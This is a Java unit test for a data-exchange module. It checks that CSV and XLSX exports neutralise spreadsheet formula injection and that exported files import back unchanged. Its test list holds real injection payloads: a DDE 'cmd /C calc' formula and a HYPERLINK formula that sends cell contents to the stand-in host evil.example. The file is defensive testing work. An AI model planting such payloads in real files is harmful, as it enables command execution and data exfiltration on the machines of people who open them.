package vn.gov.khcn.exchange.internal;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import vn.gov.khcn.exchange.ImportError;
import vn.gov.khcn.exchange.spi.Column;
import vn.gov.khcn.shared.TableWriter;

/**
 * CSV injection (OWASP): an exported text that a spreadsheet would run as a formula is written behind a single
 * quote, quoted; the import takes exactly that quote away, so an export imports back unchanged in meaning.
 */
class CsvInjectionTest {
    static final List<String> DANGEROUS = List.of("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào\")", "+1+1",
            "-5", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1");
    static final List<String> HARMLESS = List.of("'=quoted already", "'abc", "Công văn 1161/TTr-SKH&CN", "5-3", "a=b");

    private static byte[] csv(List<Object[]> rows) throws Exception {
        var out = new java.io.ByteArrayOutputStream();
        try (TableWriter w = TableWriter.csv(List.of("Văn bản", "Số"), out)) {
            rows.forEach(w::row);
        }
        return out.toByteArray();
    }

    private static List<RawRow> read(byte[] bytes, Path dir) throws Exception {
        Path f = dir.resolve("xuat.csv");
        Files.write(f, bytes);
        List<RawRow> rows = new ArrayList<>();
        try (CsvSource src = new CsvSource(f, "xuat.csv")) {
            src.next(); // headings
            while (src.hasNext()) {
                rows.add(src.next());
            }
        }
        return rows;
    }

    @Test
    void formulaLikeTextIsWrittenBehindAQuoteAndNumbersAsTheyAre(@TempDir Path dir) throws Exception {
        List<Object[]> rows = new ArrayList<>();
        DANGEROUS.forEach(t -> rows.add(new Object[] {t, -5L}));
        String text = new String(csv(rows), StandardCharsets.UTF_8);
        assertThat(text).contains("\"'=cmd|' /C calc'!A0\",-5\r\n").contains("\"'-5\",-5").contains("\"'@SUM(A1:A9)\"")
                .contains("\"'+1+1\"").contains("\"'\t=1+1\"").contains("\"'\r=1+1\"");
        for (String line : text.substring(1).split("\r\n")) {
            if (!line.startsWith("Văn bản")) {
                assertThat(line).as("every formula-like cell begins with a quote").startsWith("\"'");
            }
        }
        System.out.println("CSV injection: " + DANGEROUS.size() + " formula-like texts written as \"'…\", numbers as they are (-5)");
    }

    @Test
    void anExportedFileImportsBackUnchangedInMeaning(@TempDir Path dir) throws Exception {
        List<String> texts = new ArrayList<>(DANGEROUS);
        texts.addAll(HARMLESS);
        List<Object[]> rows = new ArrayList<>();
        texts.forEach(t -> rows.add(new Object[] {t, -5L}));
        List<RawRow> back = read(csv(rows), dir);
        Column number = Column.integer("Số", true, "");
        Column note = Column.text("Văn bản", true, 2000, "");
        for (int i = 0; i < texts.size(); i++) {
            RawRow r = back.get(i);
            assertThat(r.cell(0)).as("text %d", i).isEqualTo(texts.get(i));
            List<ImportError> errors = new ArrayList<>();
            assertThat(Cells.convert(number, r.cell(1), "xuat.csv", r.number(), 1, false, errors)).isEqualTo(-5L);
            assertThat(errors).isEmpty();
        }
        // a text "-5" stays the text "-5", and a number cell "-5" the number -5
        assertThat(Cells.convert(note, back.get(3).cell(0), "xuat.csv", 5, 0, false, new ArrayList<>())).isEqualTo("-5");
        // a formula typed into a CSV by hand (unquoted, no protecting quote) is still refused as a formula
        Path typed = dir.resolve("go-tay.csv");
        Files.writeString(typed, "Văn bản,Số\r\n=1+1,2\r\n");
        try (CsvSource src = new CsvSource(typed, "go-tay.csv")) {
            src.next();
            assertThat(src.next().cell(0)).isInstanceOf(RawRow.Formula.class);
        }
    }

    @Test
    void xlsxExportsHoldTextNeverFormulas() throws Exception {
        var out = new java.io.ByteArrayOutputStream();
        try (TableWriter w = TableWriter.xlsx("Danh sach", List.of("Văn bản"), out)) {
            DANGEROUS.forEach(t -> w.row(new Object[] {t}));
        }
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            var sheet = wb.getSheetAt(0);
            for (int i = 1; i <= DANGEROUS.size(); i++) {
                assertThat(sheet.getRow(i).getCell(0).getCellType()).isEqualTo(CellType.STRING);
                assertThat(sheet.getRow(i).getCell(0).getStringCellValue()).isEqualTo(DANGEROUS.get(i - 1));
            }
        }
    }
}
